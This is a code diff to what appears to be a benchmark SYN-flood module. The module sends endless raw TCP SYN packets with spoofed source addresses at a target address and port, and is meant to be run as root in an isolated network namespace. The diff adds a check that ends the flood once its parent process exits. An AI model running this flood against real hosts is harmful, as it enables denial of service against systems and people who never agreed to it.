@@ -2,12 +2,13 @@
 
     python -m benchmarks.attacks.syn_flood ADDRESS PORT
 
-Run by root in a network namespace of its own.
+Run by root in a network namespace of its own. It ends with who began it, however that ends.
 """
 
 from __future__ import annotations
 
 import itertools
+import os
 import random
 import socket
 import struct
@@ -32,10 +33,13 @@ def syn(source: bytes, source_port: int, target: bytes, port: int, sequence: int
 
 
 def main() -> None:
+    parent = os.getppid()
     target, port = socket.inet_aton(sys.argv[1]), int(sys.argv[2])
     with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
         sock.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
         for number in itertools.count():
+            if number % 1000 == 0 and os.getppid() != parent:
+                return
             source = target[:3] + bytes([3 + number % 250])
             packet = syn(source, 1024 + number // 250 % 64000, target, port, random.getrandbits(32))
             sock.sendto(packet, (sys.argv[1], 0))
